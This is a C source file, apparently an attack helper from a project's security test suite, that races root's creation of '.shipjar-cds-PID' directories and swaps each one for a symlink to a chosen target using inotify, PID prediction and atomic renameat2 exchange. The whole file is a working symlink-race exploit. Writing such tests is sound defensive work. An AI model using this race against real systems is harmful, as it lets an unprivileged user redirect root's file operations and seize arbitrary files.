/* The class-data dump dir race of tests/attacks at C speed (python's loop
 * is slower than root's mkdir → chmod → chown → realpath): each new
 * SHARED/.shipjar-cds-PID is exchanged (renameat2 RENAME_EXCHANGE, one
 * system call) with a symlink to TARGET made beforehand — found by
 * inotify, polled; or, once two starts showed how far apart their
 * supervisors' pids are, predicted and tried in a tight loop, so that the
 * swap lands within a microsecond of the mkdir.
 * Usage: race SHARED TARGET SECONDS. Built by the suite with the machine's cc. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *shared, *target;
static char lnk[4096];
static long prev = -1, last = -1, guess = -1;
static int swaps;

static int exchange(const char *a, const char *b) {
    return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* The real directory, now under .lnk, is kept aside; a new link made. */
static void swapped(long pid, const char *how) {
    char moved[4096];
    snprintf(moved, sizeof moved, "%s/.moved.shipjar-cds-%ld", shared, pid);
    rename(lnk, moved);
    if (symlink(target, lnk) != 0)
        perror("symlink");
    printf("swapped .shipjar-cds-%ld %s\n", pid, how);
    fflush(stdout);
    swaps++;
    prev = last;
    last = pid;
    guess = (prev > 0 && last > prev && last - prev < 1000) ? 2 * last - prev : -1;
}

int main(int argc, char **argv) {
    if (argc != 4)
        return 2;
    shared = argv[1];
    target = argv[2];
    double end = now() + atof(argv[3]);
    snprintf(lnk, sizeof lnk, "%s/.lnk", shared);
    if (symlink(target, lnk) != 0) {
        perror("symlink");
        return 1;
    }
    int fd = inotify_init1(IN_NONBLOCK);
    if (fd < 0 || inotify_add_watch(fd, shared, IN_CREATE) < 0) {
        perror("inotify");
        return 1;
    }
    char path[4096];
    char buf[4096] __attribute__((aligned(8)));
    long spins = 0;
    while (now() < end) {
        if (guess > 0) {
            snprintf(path, sizeof path, "%s/.shipjar-cds-%ld", shared, guess);
            double until = now() + 4;
            long g = guess;
            for (;;) {
                if (exchange(lnk, path) == 0) {
                    swapped(g, "predicted");
                    break;
                }
                if ((++spins & 0xfff) == 0 && now() > until) {
                    guess = -1;
                    break;
                }
            }
            continue;
        }
        ssize_t len = read(fd, buf, sizeof buf);
        if (len <= 0)
            continue;
        for (char *p = buf; p < buf + len;) {
            struct inotify_event *e = (struct inotify_event *)p;
            p += sizeof *e + e->len;
            if (strncmp(e->name, ".shipjar-cds-", 13) != 0)
                continue;
            snprintf(path, sizeof path, "%s/%s", shared, e->name);
            struct stat st;
            if (lstat(path, &st) == 0 && S_ISLNK(st.st_mode))
                continue;
            if (exchange(lnk, path) == 0)
                swapped(atol(e->name + 13), "on its event");
            else
                printf("missed %s\n", e->name);
        }
    }
    printf("swaps %d\n", swaps);
    return 0;
}
